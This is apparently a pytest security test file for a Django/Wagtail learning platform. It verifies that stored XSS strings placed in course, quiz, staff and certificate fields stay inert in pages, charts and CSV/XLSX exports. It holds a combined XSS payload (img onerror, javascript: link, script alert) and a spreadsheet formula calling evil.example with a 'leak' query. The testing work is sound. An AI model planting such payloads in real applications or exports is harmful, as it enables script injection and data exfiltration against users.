"""Stored XSS: markup typed into any text another person sees stays text.

One world holds the payload in every user-editable text that reaches someone else: course
titles and summaries, a lesson's rich text, a question, its options and feedback, a quiz
title, certificate wording, staff names (Thai and English), unit, role group, partner,
framework and competency names and an assignment's campaign. Every page, chart and export
that shows them is fetched as the person who sees it, and:

- in HTML, the payload creates no element and no attribute (parsed with BeautifulSoup: no
  `<img src=x>`, no `on…` attribute, no `javascript:` link, no script running `alert`), while
  its text is there, so the page did show it;
- in a chart's figure (the JSON handed to Plotly.js), every label carrying it is escaped for
  Plotly (`analytics.charts.figures.plotly_text`): Plotly would draw `<a href>` and `<img>`;
- in CSV and XLSX exports it is there literally, and a name starting with `=` is guarded
  against formula injection (`lms.spreadsheets.writing`).

`tests/test_browser_content_security_policy.py` opens the same world in Chromium and checks
that no dialog opens and the charts show the payload as text.
"""

from __future__ import annotations

import csv
import html
import io
import json
from dataclasses import dataclass
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

from analytics.charts.figures import PLOTLY_TEXT_KEYS, figure_json, table_figure
from analytics.selectors.contract import Column, Table
from analytics.services import aggregates_rebuild
from assessments.models import QuestionBank
from assessments.question_kinds import QuestionKind
from assessments.services.attempts import quiz_attempt_start, quiz_attempt_submit
from assessments.tests.factories import full_marks, question, quiz_lesson
from assignments.tests.factories import assignment_of
from certificates.models import CertificateTemplate
from certificates.tests.factories import issued_certificate
from competencies.tests.factories import (
    EvidenceFactory,
    FrameworkFactory,
    NodeFactory,
    RoleRequirementFactory,
)
from courses.models import CoursePage
from courses.services import enrolment_request
from courses.tests.factories import LessonPageFactory, course_with_lessons
from organisations.models import OrganisationUnit
from organisations.tests.factories import ContentPartnerFactory, OrganisationUnitFactory
from people.services import role_assign
from people.tests.factories import RoleGroupFactory, UserFactory, hr_manager_of, learner_in

pytestmark = pytest.mark.django_db

# One string for every context: an attribute value ("'>), an element (<img onerror>), a link
# (javascript:), a script (</script> in JSON, <script>).
PAYLOAD = (
    '"\'><img src=x onerror=alert(1)><a href="javascript:alert(2)">x</a></script><script>alert(3)</script>'
)
FORMULA = '=HYPERLINK("https://evil.example/?leak","open me")'


def hostile(label: str) -> str:
    """`label` and the payload: the label says which field a payload came from."""
    return f"{label} {PAYLOAD}"


def editor_rich_text(text: str) -> str:
    """Rich text as the admin's editor (Draftail) stores it when a partner types `text` and
    links it to a `javascript:` URL: the editor posts contentstate, Wagtail converts it."""
    contentstate = {
        "blocks": [
            {"key": "a1", "type": "unstyled", "text": text, "depth": 0,
             "inlineStyleRanges": [], "entityRanges": [{"offset": 0, "length": 6, "key": 0}]},
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(4)"}}},
    }  # fmt: skip
    converter = ContentstateConverter(features=["bold", "italic", "link"])
    return str(converter.to_database_format(json.dumps(contentstate)))


@dataclass
class World:
    ministry: Any
    division: Any
    learner: Any
    colleague: Any
    manager: Any
    author: Any
    admin: Any
    course: Any
    text_lesson: Any
    quiz_lesson: Any
    attempt_id: Any
    open_attempt_id: Any
    certificate_id: Any
    certificate_course: Any
    assignment_id: Any
    framework: Any
    design: Any
    scorm_lesson: Any = None  # the browser test adds a SCORM lesson


def build_world():
    kind = OrganisationUnit.Kind
    ministry = OrganisationUnitFactory(
        code="XSS", kind=kind.MINISTRY, name_th=hostile("ministry-th"), name_en=hostile("ministry-en")
    )
    division = OrganisationUnitFactory(
        code="XSS-DIV", kind=kind.DIVISION, parent=ministry,
        name_th=hostile("unit-th"), name_en=hostile("unit-en"),
    )  # fmt: skip
    group: Any = RoleGroupFactory(code="XSS-RG", name_th=hostile("group-th"), name_en=hostile("group-en"))
    partner: Any = ContentPartnerFactory(
        code="xss", name_th=hostile("partner-th"), name_en=hostile("partner-en")
    )
    learner = learner_in(
        division,
        email="learner@xss.go.th",
        first_name=hostile("first-th"),
        last_name=hostile("last-th"),
        first_name_en=hostile("first-en"),
        last_name_en=hostile("last-en"),
    )
    learner.profile.role_group = group
    learner.profile.save()
    colleague = learner_in(division, email="colleague@xss.go.th", first_name="สมศรี", last_name=FORMULA,
                           first_name_en="Somsri", last_name_en=FORMULA)  # fmt: skip
    manager = hr_manager_of(ministry, email="hr@xss.go.th")
    author: Any = UserFactory(email="author@xss.ac.th")
    role_assign(user=author, role="partner_author", partner=partner)
    admin: Any = UserFactory(email="admin@xss.go.th", is_superuser=True)
    role_assign(user=admin, role="platform_admin")

    design = CertificateTemplate.objects.create(
        name=PAYLOAD[:100],  # the name field holds 100 characters: the payload alone
        heading_th=hostile("heading-th"),
        heading_en=hostile("heading-en"),
        statement_th=hostile("statement-th"),
        statement_en=hostile("statement-en"),
        completion_th=hostile("completion-th"),
        completion_en=hostile("completion-en"),
    )
    course = course_with_lessons(
        partner=partner, lessons=1, title=hostile("course-th"), title_en=hostile("course-en"),
        summary_th=hostile("summary-th"), certificate_template=design,
    )  # fmt: skip
    bank = QuestionBank.objects.create(partner=partner, title=hostile("bank"))
    question(
        bank, QuestionKind.SINGLE, hostile("question"),
        options=[(hostile("option-right"), True), (hostile("option-wrong"), False)],
        feedback_correct=hostile("feedback-correct"), feedback_incorrect=hostile("feedback-wrong"),
        explanation=hostile("explanation"),
    )  # fmt: skip
    quiz_page = quiz_lesson(bank=bank, course=course, title=hostile("quiz-title"))
    text_lesson = LessonPageFactory(
        parent=course,
        title=hostile("lesson-title"),
        body__0__text__value=editor_rich_text(hostile("lesson-text")),
    )
    enrolment = enrolment_request(user=learner, course=course)
    block_id = next(child.id for child in quiz_page.body if child.block_type == "quiz")
    attempt = quiz_attempt_start(enrolment=enrolment, lesson=quiz_page, block_id=block_id)
    quiz_attempt_submit(attempt=attempt, answers=full_marks(attempt))
    second_attempt = quiz_attempt_start(enrolment=enrolment, lesson=quiz_page, block_id=block_id)

    certificate_course = course_with_lessons(
        partner=partner, lessons=1, title=hostile("certificate-course"), certificate_template=design
    )
    certificate = issued_certificate(user=learner, course=certificate_course)

    framework = FrameworkFactory(
        code="XSS-FW", name_th=hostile("framework-th"), name_en=hostile("framework-en")
    )
    node = NodeFactory(framework=framework, code="XSS-1", name_th=hostile("competency-th"),
                       name_en=hostile("competency-en"))  # fmt: skip
    RoleRequirementFactory(role_group=group, node=node, required_level=3)
    EvidenceFactory(user=learner, node=node, level=1)

    assignment = assignment_of(division, created_by=manager, course=course, campaign=hostile("campaign"))
    aggregates_rebuild(resume=False)
    return World(
        ministry=ministry, division=division, learner=learner, colleague=colleague, manager=manager,
        author=author, admin=admin, course=CoursePage.objects.get(pk=course.pk), text_lesson=text_lesson,
        quiz_lesson=quiz_page, attempt_id=attempt.pk, open_attempt_id=second_attempt.pk,
        certificate_id=certificate.public_id, certificate_course=certificate_course,
        assignment_id=assignment.pk, framework=framework, design=design,
    )  # fmt: skip


# --------------------------------------------------------------------------------------------
# What "inert" means in a page
# --------------------------------------------------------------------------------------------


def payload_elements(page_html: str) -> list[str]:
    """Every element or attribute in the page that the payload could have created."""
    found = []
    for tag in BeautifulSoup(page_html, "html.parser").find_all(True):
        for attribute, value in tag.attrs.items():
            if attribute.lower().startswith("on"):
                found.append(f"<{tag.name} {attribute}=…>")
            url_attribute = attribute.lower() in {"href", "src", "action", "formaction"}
            if url_attribute and str(value).strip().lower().startswith("javascript:"):
                found.append(f"<{tag.name} {attribute}={value!r}>")
        if tag.name == "img" and tag.get("src") == "x":
            found.append("<img src=x>")
        is_json = str(tag.get("type", "")).endswith("json")
        if tag.name == "script" and not is_json and "alert(" in tag.get_text():
            found.append("<script>alert(…)</script>")
    return found


def shown_text(page_html: str) -> str:
    """The page's text as people read it, and the data in its `json_script`s."""
    soup = BeautifulSoup(page_html, "html.parser")
    data = [tag.get_text() for tag in soup.find_all("script", type="application/json")]
    return soup.get_text() + " ".join(json.dumps(json.loads(text), ensure_ascii=False) for text in data)


def chart_labels(page_html: str) -> list[str]:
    """Every string Plotly.js would draw as text, from the page's chart figures."""
    labels: list[str] = []

    def walk(value: Any, *, text: bool = False) -> None:
        if isinstance(value, dict):
            for key, item in value.items():
                walk(item, text=key in PLOTLY_TEXT_KEYS)
        elif isinstance(value, list):
            for item in value:
                walk(item, text=text)
        elif text and isinstance(value, str):
            labels.append(value)

    soup = BeautifulSoup(page_html, "html.parser")
    for script in soup.find_all("script", type="application/json"):
        data = json.loads(script.get_text())
        if isinstance(data, dict) and "layout" in data and "data" in data:
            walk(data)
    return labels


def get(client, user, url: str, **params):
    client.force_login(user)
    response = client.get(url, params, follow=True)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def assert_inert(page_html: str, *, url: str, shows: list[str]) -> None:
    created = payload_elements(page_html)
    assert not created, f"{url}: the payload made {created}"
    text = shown_text(page_html)
    missing = [label for label in shows if hostile(label) not in text]
    assert not missing, f"{url} does not show {missing} as text"


# --------------------------------------------------------------------------------------------
# Pages
# --------------------------------------------------------------------------------------------


@pytest.fixture
def world(site_tree_for_pages):
    return build_world()


@pytest.fixture
def site_tree_for_pages(db):
    from wagtail.models import Collection

    from courses.services import catalogue_ensure
    from themes.services import home_page_ensure

    if Collection.get_first_root_node() is None:
        Collection.add_root(name="Root")
    home_page_ensure()
    catalogue_ensure()


def test_the_editor_keeps_no_javascript_link_in_rich_text():
    stored = editor_rich_text(hostile("lesson-text"))
    assert "alert(4)" not in stored  # the link's javascript: URL is dropped
    assert not payload_elements(stored)
    assert hostile("lesson-text") in shown_text(stored)


def test_learner_pages_show_every_payload_as_text(client, world):
    w = world
    pages = {
        reverse("learning:my-learning"): ["course-th", "certificate-course"],
        reverse("learning:transcript"): ["certificate-course"],
        w.course.url: ["course-th", "summary-th", "partner-th", "lesson-title"],
        w.text_lesson.url: ["lesson-title", "course-th"],
        w.quiz_lesson.url: ["quiz-title"],
        reverse("assessments:attempt", args=[w.attempt_id]): [
            "question", "option-right", "feedback-correct", "explanation",
        ],
        reverse("assessments:attempt", args=[w.open_attempt_id]): [
            "question", "option-right", "option-wrong",
        ],
        reverse("my-competencies"): ["competency-th", "group-th"],
        reverse("certificates:mine"): ["certificate-course"],
        reverse("account:profile"): ["first-th", "last-th", "unit-th"],
    }  # fmt: skip
    for url, shows in pages.items():
        assert_inert(get(client, w.learner, url), url=url, shows=shows)
    # The lesson text is there, and its javascript: link is not.
    lesson = get(client, w.learner, w.text_lesson.url)
    assert hostile("lesson-text") in shown_text(lesson)


def test_public_pages_show_every_payload_as_text(client, world):
    w = world
    pages = {
        "/courses/": ["course-th", "partner-th"],
        w.course.get_parent().url: ["partner-th", "course-th"],
        reverse("certificates:verify", args=[w.certificate_id]): ["certificate-course"],
        reverse("competencies:framework-list"): ["framework-th"],
        reverse("competencies:framework-detail", args=[w.framework.code, w.framework.version]): [
            "framework-th", "competency-th",
        ],
    }  # fmt: skip
    for url, shows in pages.items():
        client.logout()
        response = client.get(url, follow=True)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url=url, shows=shows)
    search = client.get("/courses/", {"q": "course-th"})
    assert_inert(search.content.decode(), url="/courses/?q=", shows=[])


def test_hr_pages_and_charts_show_every_payload_as_text(client, world):
    w = world
    dashboard = reverse("analytics:dashboard")
    pages = {
        dashboard: ["unit-th", "course-th", "ministry-th"],
        f"{dashboard}?unit={w.division.pk}": ["first-th", "last-th"],
        reverse("assignments:list"): ["course-th", "campaign"],
        reverse("assignments:detail", args=[w.assignment_id]): ["first-th", "last-th", "campaign"],
        reverse("competencies:person", args=[w.learner.pk]): ["first-th", "competency-th"],
    }
    for url, shows in pages.items():
        assert_inert(get(client, w.manager, url), url=url, shows=shows)

    page = get(client, w.manager, dashboard)
    labels = chart_labels(page)
    assert labels, "the dashboard drew no chart"
    assert not [label for label in labels if "<img" in label or "<a " in label or "<script" in label]
    escaped = html.escape(hostile("unit-th"), quote=False)
    assert escaped in labels or any(escaped in label.replace("<br>", " ") for label in labels)


def test_partner_dashboard_shows_every_payload_as_text(client, world):
    url = reverse("analytics:partner-dashboard")
    page = get(client, world.author, url)
    assert_inert(page, url=url, shows=["course-th"])
    assert not [label for label in chart_labels(page) if "<" in label.replace("<br>", "")]


def test_admin_pages_show_every_payload_as_text(client, world):
    w = world
    pages = {
        "/admin/users/": ["first-th"],
        f"/admin/pages/{w.course.pk}/": ["course-th", "lesson-title"],
        "/admin/": [],
        reverse("wagtailsnippets_certificates_certificatetemplate:list"): [],
        reverse("wagtailsnippets_certificates_certificatetemplate:inspect", args=[w.design.pk]): [
            "heading-th", "statement-th", "completion-th",
        ],
    }  # fmt: skip
    for url, shows in pages.items():
        assert_inert(get(client, w.admin, url), url=url, shows=shows)


# --------------------------------------------------------------------------------------------
# Charts and exports
# --------------------------------------------------------------------------------------------


def test_every_chart_label_reaches_plotly_escaped():
    title = '<a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>'
    table = Table(
        key="top_courses",
        title="หลักสูตร",
        columns=[Column("course", "หลักสูตร"), Column("enrolments", "ลงทะเบียน", "int"),
                 Column("completions", "เรียนจบ", "int")],
        rows=[[title, 3, 1], ["หลักสูตร & <b>ตัวหนา</b> ที่มีชื่อยาวมากจนต้องตัดบรรทัดบนแกน", 2, 2]],
    )  # fmt: skip
    figure = table_figure(table)
    assert figure is not None
    data = figure_json(figure)
    categories = data["data"][0]["y"]
    assert categories[0].replace("<br>", " ") == html.escape(title, quote=False)
    assert "&amp; &lt;b&gt;ตัวหนา&lt;/b&gt;" in categories[1]
    assert "<br>" in categories[1]  # a long label still breaks on the page
    for trace in data["data"]:
        assert "<a" not in trace["hovertemplate"]
        assert "%{fullData.name}" in trace["hovertemplate"]
    # The figure itself (what the PDF draws) keeps the title as typed.
    assert figure.data[0].y[0].replace("\n", " ") == title


def _export(client, user, url: str, django_capture_on_commit_callbacks) -> bytes:
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(url)
    if response.status_code == 302:  # built in the background: the job's page, then its file
        job_url = response.url
        response = client.get(job_url.rstrip("/") + "/download/")
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_hold_the_payload_literally_and_guard_formulas(
    client, world, fmt, django_capture_on_commit_callbacks
):
    w = world
    url = reverse("analytics:table-export", args=["people", fmt]) + f"?unit={w.division.pk}"
    content = _export(client, w.manager, url, django_capture_on_commit_callbacks)
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    else:
        workbook = load_workbook(io.BytesIO(content))
        cells = [
            str(cell)
            for sheet in workbook
            for row in sheet.iter_rows(values_only=True)
            for cell in row
            if cell
        ]
    text = "\n".join(cells)
    assert hostile("first-th") in text
    assert hostile("last-th") in text
    assert not [cell for cell in cells if cell.startswith("=")], "a cell would run as a formula"
    assert any(FORMULA in cell for cell in cells)
